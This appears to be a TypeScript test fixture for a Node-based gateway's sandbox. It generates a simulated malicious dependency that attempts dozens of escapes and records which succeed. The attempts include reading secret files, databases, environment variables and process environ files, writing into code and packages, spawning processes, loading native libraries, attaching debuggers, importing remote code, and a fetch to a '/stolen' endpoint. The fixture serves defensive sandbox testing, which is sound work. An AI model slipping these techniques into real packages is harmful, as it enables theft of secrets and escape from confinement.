/** What a dependency of the gateway on Node does that was taken over: code for its module, which names each deed that succeeds. */

/** The calls that no version of Node confines by host, and what it says about the machine. They are known, and stated in SECURITY.md. */
export const OPEN = [
  "a call",
  "a connection",
  "a message to a host",
  "a port to listen on",
  "a name",
  "a socket of the system",
  "the machine's name",
  "the user's name",
];

const DEEDS = `
const get = (name) => process.getBuiltinModule(name);
const fs = get("node:fs"), net = get("node:net"), sqlite = get("node:sqlite"), path = get("node:path");
const must = (value) => { if (!value) throw new Error(); };
const settled = (emitter, good, bad = "error") =>
  new Promise((resolve, reject) => emitter.once(good, resolve).once(bad, reject).once("exit", (code) => code ? reject() : resolve()));
const readDatabase = (file, options = {}) => new sqlite.DatabaseSync(file, options).prepare("SELECT * FROM secrets").all();
const deeds = {
  "a file": () => fs.readFileSync("FOLDER/home/secret"),
  "a file, later": () => fs.promises.readFile("FOLDER/home/secret"),
  "a file as a stream": () => settled(fs.createReadStream("FOLDER/home/secret").resume(), "end"),
  "a file as a blob": async () => (await fs.openAsBlob("FOLDER/home/secret")).text(),
  "a descriptor": () => fs.openSync("FOLDER/home/secret"),
  "a file by a relative path": () => fs.readFileSync(path.relative(process.cwd(), "FOLDER/home/secret")),
  "a file by a detour": () => fs.readFileSync("PROGRAM/src/../../home/secret"),
  "a file by bytes": () => fs.readFileSync(Buffer.from("FOLDER/home/secret")),
  "a file by an address": () => fs.readFileSync(new URL("file://FOLDER/home/secret")),
  "a file of the system": () => fs.readFileSync("/etc/hostname"),
  "a folder": () => fs.readdirSync("FOLDER/home"),
  "a folder, opened": () => fs.opendirSync("FOLDER/home").readSync(),
  "a pattern": () => must(fs.globSync("FOLDER/home/*").length),
  "a size": () => fs.statSync("FOLDER/home/secret"),
  "a link's target": () => fs.readlinkSync("/proc/self/cwd"),
  "watching": () => fs.watch("FOLDER/home").close(),
  "a file as code": () => import("FOLDER/home/" + "secret.json", { with: { type: "json" } }),
  "a file by require": () => get("node:module").createRequire("PROGRAM/src/node.ts")("FOLDER/home/secret.json"),
  "a link": () => { fs.symlinkSync("FOLDER/home/secret", "FOLDER/kept/link"); fs.readFileSync("FOLDER/kept/link"); },
  "a hard link": () => { fs.linkSync("FOLDER/home/secret", "FOLDER/kept/hard"); fs.readFileSync("FOLDER/kept/hard"); },
  "a copy": () => fs.copyFileSync("FOLDER/home/secret", "FOLDER/kept/copy"),
  "a move": () => fs.renameSync("FOLDER/home/secret.json", "FOLDER/kept/moved"),
  "a database": () => readDatabase("FOLDER/home/secret.db"),
  "a database to read only": () => readDatabase("FOLDER/home/secret.db", { readOnly: true }),
  "a database by an address": () => readDatabase("file:FOLDER/home/secret.db"),
  "a database by bytes": () => readDatabase(Buffer.from("FOLDER/home/secret.db")),
  "a database, opened later": () => { const db = new sqlite.DatabaseSync("FOLDER/home/secret.db", { open: false }); db.open(); },
  "a database by its class": () => new sqlite.DatabaseSync.prototype.constructor("FOLDER/home/secret.db").prepare("SELECT * FROM secrets").all(),
  "a database by its own class": () => new (class extends sqlite.DatabaseSync {})("FOLDER/home/secret.db").exec("SELECT 1 FROM secrets"),
  "a database, imported": async () => new (await import("node:sqlite")).DatabaseSync("FOLDER/home/secret.db").exec("SELECT 1 FROM secrets"),
  "a database, attached": () => new sqlite.DatabaseSync(":memory:").exec("ATTACH 'FOLDER/home/secret.db' AS other"),
  "a database, written": () => new sqlite.DatabaseSync(":memory:").exec("VACUUM INTO 'FOLDER/written.db'"),
  "a database, copied": () => sqlite.backup(new sqlite.DatabaseSync(":memory:"), "FOLDER/written.db"),
  "a database's rules": () => new sqlite.DatabaseSync(":memory:").setAuthorizer(null),
  "a database's library": () => new sqlite.DatabaseSync(":memory:", { allowExtension: true }).enableLoadExtension(true),
  "the environment": () => must(process.env.OTHER_SECRET),
  "the environment in a report": () => must(JSON.stringify(process.report.getReport()).includes("OTHER_SECRET")),
  "the process's own": () => fs.readFileSync("/proc/self/environ"),
  "the launcher's own": () => fs.readFileSync("/proc/" + process.ppid + "/environ"),
  "writing": () => fs.writeFileSync("FOLDER/written", "x"),
  "writing later": () => fs.promises.writeFile("FOLDER/written", "x"),
  "writing as a stream": () => settled(fs.createWriteStream("FOLDER/written").end("x"), "finish"),
  "adding": () => fs.appendFileSync("FOLDER/home/secret", "x"),
  "a new folder": () => fs.mkdirSync("FOLDER/new"),
  "a folder of its own": () => fs.mkdtempSync("FOLDER/own"),
  "removing": () => fs.rmSync("FOLDER/home/secret.js"),
  "a mode": () => fs.chmodSync("FOLDER/home/secret", 0o777),
  "a date": () => fs.utimesSync("FOLDER/home/secret", 1, 1),
  "writing the configuration": () => fs.writeFileSync("FOLDER/gateway.json", "{}"),
  "writing the code": () => fs.writeFileSync("PROGRAM/src/written.ts", "x"),
  "writing a package": () => fs.writeFileSync("PROGRAM/node_modules/written.js", "x"),
  "writing a report": () => process.report.writeReport("FOLDER/written.json"),
  "writing the memory": () => get("node:v8").writeHeapSnapshot("FOLDER/written.heapsnapshot"),
  "another folder to be in": () => process.chdir("FOLDER"),
  "a program": () => settled(get("node:child_process").spawn("true"), "exit"),
  "a program at once": () => must(get("node:child_process").spawnSync("true").status === 0),
  "a program in a shell": () => get("node:child_process").execSync("true"),
  "itself": () => get("node:child_process").fork("FOLDER/home/secret.js"),
  "itself in its place": () => process.execve(process.execPath, ["node", "-e", "0"]),
  "a cluster": () => settled(get("node:cluster").fork(), "online"),
  "a thread": () => settled(new (get("node:worker_threads").Worker)("0", { eval: true }), "online"),
  "a thread without limits": () => settled(new (get("node:worker_threads").Worker)("0", { eval: true, execArgv: [] }), "online"),
  "hooks in a thread": () => get("node:module").register("data:text/javascript,export const resolve = 0"),
  "a library": () => process.dlopen({ exports: {} }, "FOLDER/home/library.node"),
  "a library by require": () => get("node:module").createRequire("PROGRAM/src/node.ts")("FOLDER/home/library.node"),
  "the engine's own": () => process.binding("fs").open("FOLDER/home/secret", 0, 0),
  "the engine's other own": () => process._linkedBinding("fs"),
  "a module of WebAssembly": () => new (get("node:wasi").WASI)({ version: "preview1", preopens: { "/": "/" } }),
  "a debugger": () => get("node:inspector").open(0),
  "its own debugger": () => new (get("node:inspector").Session)().connect(),
  "traces of the engine": () => get("node:trace_events").createTracing({ categories: ["v8"] }).enable(),
  "a signal": () => process.kill(process.ppid, 0),
  "a signal by its other name": () => must(process._kill(process.ppid, 0) === 0),
  "a debugger of another": () => process._debugProcess(process.ppid),
  "more permissions": () => must(process.permission.has("child") || process.permission.has("worker") || process.permission.has("fs.read")),
  "code of a host": () => import("http://127.0.0.1:PORT/code.js"),
  "code of a registry": () => import("npm:is-odd" + "@1.0.0"),
  "a call": () => fetch("http://127.0.0.1:PORT/stolen"),
  "a connection": () => settled(net.connect(PORT, "127.0.0.1"), "connect"),
  "a message to a host": () => new Promise((resolve, reject) => get("node:dgram").createSocket("udp4").send("x", 9, "127.0.0.1", (error) => error ? reject(error) : resolve())),
  "a port to listen on": () => settled(net.createServer().listen(0).unref(), "listening"),
  "a name": () => get("node:dns").promises.lookup("localhost"),
  "a socket of the system": () => settled(net.connect("FOLDER/socket"), "connect"),
  "the machine's name": () => get("node:os").hostname(),
  "the user's name": () => get("node:os").userInfo().username,
};
const done = [];
for (const [name, deed] of Object.entries(deeds)) {
  try { await deed(); done.push(name); } catch {}
}
process.stderr.write("DONE " + JSON.stringify({ tried: Object.keys(deeds).length, done }) + ";\\n");
`;

export interface MaliceOptions {
  /** A folder whose content the gateway may not reach, with `home` and `socket` in it. */
  folder: string;
  /** The folder of the program. */
  program: string;
  /** The port of a server that the gateway may not call. */
  port: number;
}

export function malice({ folder, program, port }: MaliceOptions): string {
  return DEEDS.replaceAll("FOLDER", folder).replaceAll("PROGRAM", program).replaceAll("PORT", String(port));
}
